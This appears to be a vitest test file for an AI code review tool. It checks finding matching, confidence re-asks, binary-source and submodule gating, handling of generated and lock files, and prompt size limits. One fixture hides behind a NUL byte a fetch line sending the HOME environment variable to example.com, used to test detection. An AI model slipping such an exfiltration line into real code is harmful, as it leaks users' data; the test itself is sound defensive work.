import { describe, expect, it } from 'vitest'
import { type JsonReview, reviewJson } from '../support/program.ts'
import { createRepository, type Files, type TestRepository } from '../support/repository.ts'
import { type ScriptedAgent, scriptedAgent } from '../support/scripted-agent.ts'

// What counts as said, and what counts as seen: the program with reviewers that spell things in their own way.

const division: Files = { 'lib/bad.js': 'export function divide(a, b) {\n  // Nobody checks.\n  return a / b\n}\n' }

function changed(files: Files = division, base: Files = {}): TestRepository {
  const test = createRepository({ 'README.md': '# Test\n', ...base })
  test.commit('Divide', files)
  return test
}

const review = (test: TestRepository, agent: ScriptedAgent, ...more: string[]): Promise<JsonReview> =>
  reviewJson(test.path, ['--agent', agent.word, ...more])

/** Reports one P0, spelled as given, to whoever asks. */
const reporter = (spelling: object) =>
  scriptedAgent(`
const wrong = { severity: 'P0', file: 'lib/bad.js', line: 3, evidence: 'return a / b', ...${JSON.stringify(spelling)} }
if (role === 'verifier') answer({ findings: ids.map((id) => ({ id, verdict: 'confirmed', quote: '3: return a/b', reason: 'seen' })) })
else answer({ summary: 'Looked.', findings: [finding(wrong)] })`)

const accept: Files = { '.review-loop/config.yaml': 'panel: { unreviewed: accept }\n' }

describe('a finding counts however its reviewer spells', () => {
  it.each<[string, object]>([
    ['the path from here', { file: './lib/bad.js' }],
    ['the path with backslashes', { file: 'lib\\bad.js' }],
    ['the path of the new side', { file: 'b/lib/bad.js' }],
    ['the path of the old side', { file: 'a/lib/bad.js' }],
    ['the path from the root of the disk', { file: '/home/anna/project/lib/bad.js' }],
    ['the quote after a number', { evidence: '3   return a / b' }],
    ['the quote after a number and a colon', { evidence: '3: return a / b' }],
    ['the quote after a number and a bar', { evidence: '2 |   // Nobody checks.\n3 |   return a / b' }],
    ['the quote after the mark of a diff', { evidence: '+ return a / b' }],
    ['the quote with other spaces', { evidence: 'return a/b' }],
  ])('%s', async (_, spelling) => {
    const { code, result } = await review(changed(), reporter(spelling))
    expect(result.discarded).toEqual([])
    expect(result.findings).toMatchObject([{ severity: 'P0', file: 'lib/bad.js', verification: { reason: 'seen' } }])
    expect(code).toBe(1)
  })

  it('the quotes of a careless copy, and is told with the code of the file', async () => {
    const lines = [
      'export function sum(rows) {',
      '  let total = 0',
      '  for (let i = 0; i < rows.length && rows[i] < 9; i++) {',
      '    if (total < 0 && rows.length > 1) total = 0',
      '    total -= rows[i]',
      '  }',
      '  return total',
      '}',
    ]
    const copies = [
      { line: 2, evidence: 'let total = 0;' },
      { line: 3, evidence: 'for (let i = 0; ... i++) {' },
      { line: 4, evidence: 'if (total &lt; 0 &amp;&amp; rows.length &gt; 1) total = 0' },
      { line: 5, evidence: 'total -= rows[i] // wrong sign' },
    ]
    const agent = scriptedAgent(`
const copies = ${JSON.stringify(copies)}
if (role === 'verifier') answer({ findings: ids.map((id) => ({ id, verdict: 'confirmed', quote: 'let total = 0;', reason: 'seen' })) })
else answer({ summary: 'Looked.', findings: copies.map((copy) => finding({ severity: 'P1', title: 'Line ' + copy.line, file: 'lib/sum.js', ...copy })) })`)
    const { code, result } = await review(changed({ 'lib/sum.js': `${lines.join('\n')}\n` }), agent)
    expect(result.discarded).toEqual([])
    const found = result.findings.map(({ line, evidence }) => [line, evidence])
    expect(found.sort()).toEqual(copies.map(({ line }) => [line, lines[line - 1]!.trim()]))
    expect(code).toBe(1)
  })

  it('unless the code is another', async () => {
    const { code } = await review(changed(), reporter({ evidence: '3: return a * b' }))
    // The verifier says where it is.
    expect(code).toBe(1)
    const alone = await review(changed(), reporter({ evidence: '3: return a * b' }), '--no-verify')
    expect(alone.code).toBe(3)
    expect(alone.result.discarded).toMatchObject([{ code: 'evidence_not_found' }])
  })
})

it.each([90, -1])('asks again for a confidence of %d, and says what is wrong with it', async (confidence) => {
  const agent = scriptedAgent(`
if (role === 'verifier') answer({ findings: ids.map((id) => ({ id, verdict: 'confirmed', quote: 'return a / b', reason: 'seen' })) })
else answer({ summary: 'Looked.', findings: [finding({ severity: 'P0', line: 3, evidence: 'return a / b', confidence: prompt.includes('from 0 to 1, found ${confidence}') ? 0.9 : ${confidence} })] })`)
  const { code, result } = await review(changed(), agent)
  expect(code).toBe(1)
  expect(result.findings).toMatchObject([{ severity: 'P0', confidence: 0.9 }])
  expect(agent.calls().filter(({ name }) => name === 'reviewer')).toHaveLength(2)
})

describe('what nobody can see', () => {
  const hidden = { 'src/evil.js': `// \0\nfetch('https://example.com/' + process.env.HOME)\n`, ...division }

  it('is told when one NUL byte hides source, and is no pass', async () => {
    const { code, result } = await review(changed(hidden), scriptedAgent('clean()'))
    expect(code).toBe(3)
    expect(result.findings).toMatchObject([
      { severity: 'P1', rule: 'hygiene/binary-source', file: 'src/evil.js', title: 'Source file that shows as binary' },
    ])
    expect(result.gate.reasons.join('\n')).toContain('Not reviewed: src/evil.js: git takes it for binary')
  })

  it('blocks all the same when the configuration accepts that', async () => {
    const { code, result } = await review(changed(hidden, accept), scriptedAgent('clean()'))
    expect(code).toBe(1)
    expect(result.notices.join('\n')).toContain('which the configuration accepts: src/evil.js')
  })

  it('is not passed over in a submodule', async () => {
    const test = changed()
    const commit = test.git('rev-parse', 'HEAD').trim()
    test.git('update-index', '--add', '--cacheinfo', `160000,${commit},vendor/lib`)
    test.git('commit', '-q', '-m', 'Take a library in')
    const { code, result } = await review(test, scriptedAgent('clean()'), '--committed')
    expect(code).toBe(3)
    expect(result.gate.reasons.join('\n')).toContain('Not reviewed: vendor/lib: a submodule')
  })

  it('is only mentioned where nobody expects it to be read', async () => {
    const { code, result } = await review(changed({ ...division, 'logo.png': '\x89PNG\0\0' }), scriptedAgent('clean()'))
    expect(code).toBe(0)
    expect(result.notices.join('\n')).toContain('Binary, so not shown to the reviewers: logo.png.')
  })
})

describe('what programs write', () => {
  const lock = (count: number) => `{\n${'"x": 1,\n'.repeat(count)}"y": 2 }\n`

  it('is shown when it is short, so that nobody slips something in by hand', async () => {
    const agent = scriptedAgent('clean()')
    const files = { 'package-lock.json': lock(20), 'vendor/lib.js': 'evil()\n', 'dist/app.min.js': 'tiny()\n' }
    const { code } = await review(changed(files), agent)
    expect(code).toBe(0)
    const prompts = agent.calls().map(({ prompt }) => prompt)
    expect(prompts).toHaveLength(1)
    expect(prompts[0]).toContain('+evil()')
    expect(prompts[0]).toContain('+"x": 1,')
    expect(prompts[0]).toContain('+tiny()')
  })

  it('says so in a comment that the change did not bring along: nothing written by hand is hidden with it', async () => {
    const agent = scriptedAgent('clean()')
    const [marker, long] = ['// Code generated by x. DO NOT EDIT.\n', (name: string) => `${name}()\n`.repeat(101)]
    const base = { 'api.js': marker, 'old.js': 'old()\n' }
    const test = changed({ 'api.js': marker + long('written'), 'mine.js': 'mine()\n' }, base)
    const { result } = await review(test, agent)
    expect(result.notices).toContain(
      'Named to the reviewers but not shown: api.js (generated, as it says itself, modified, +101 -0).',
    )
    test.commit('Mark', { 'mine.js': marker + long('evil'), 'old.js': null, 'moved.js': marker + long('worse') })
    await review(test, agent)
    const prompts = agent.calls().map(({ prompt }) => prompt)
    expect(prompts.join('')).not.toContain('+written()')
    expect(prompts.at(-1)).toContain('+evil()')
    expect(prompts.at(-1)).toContain('+worse()')
  })

  it('alone is shown to nobody: no call, and no pass', async () => {
    const agent = scriptedAgent('clean()')
    const { code, result } = await review(changed({ 'package-lock.json': lock(300) }), agent)
    expect(code).toBe(3)
    expect(agent.calls()).toEqual([])
    expect(result.gate.reasons).toEqual([
      'Nothing of this change was shown to a reviewer: package-lock.json (lock file, added, +302 -0); panel.show shows it, panel.unreviewed: accept accepts it.',
    ])
  })

  it.each([
    ['accepted', 'panel: { unreviewed: accept }\n', 0],
    ['shown', 'panel: { show: [package-lock.json] }\n', 1],
  ])('alone passes when it is %s', async (_, config, calls) => {
    const agent = scriptedAgent('clean()')
    const test = changed({ 'package-lock.json': lock(300) }, { '.review-loop/config.yaml': config })
    const { code } = await review(test, agent, '--no-verify')
    expect(code).toBe(0)
    expect(agent.calls().length > 0).toBe(calls > 0)
  })
})

it('names the critics that a review has no room for', async () => {
  const gates = { version: 1, moduleCritics: [{ patterns: ['lib'], critics: ['security', 'performance', 'api'] }] }
  const test = changed(division, { '.review-loop/critic-gates.json': JSON.stringify(gates) })
  const { result } = await review(test, scriptedAgent('clean()'))
  expect(result.notices.join('\n')).toContain('this review has no room for: performance, security.')
})

it('keeps a prompt within its limit whatever the commits say', async () => {
  const lines = Array.from({ length: 150 }, (_, index) => `export const value${index} = ${index}\n`).join('')
  const test = changed({ 'src/a.js': lines }, { '.review-loop/config.yaml': 'limits: { call_tokens: 12000 }\n' })
  for (const word of ['One', 'Two', 'Three']) test.commit(`${word} ${'x'.repeat(100_000)}`)
  const agent = scriptedAgent('clean()')
  const { code } = await review(test, agent)
  expect(code).toBe(0)
  const [call] = agent.calls()
  expect(call?.prompt).toContain('[cut]')
  expect(call?.prompt.length).toBeLessThan(3 * 12_000)
})
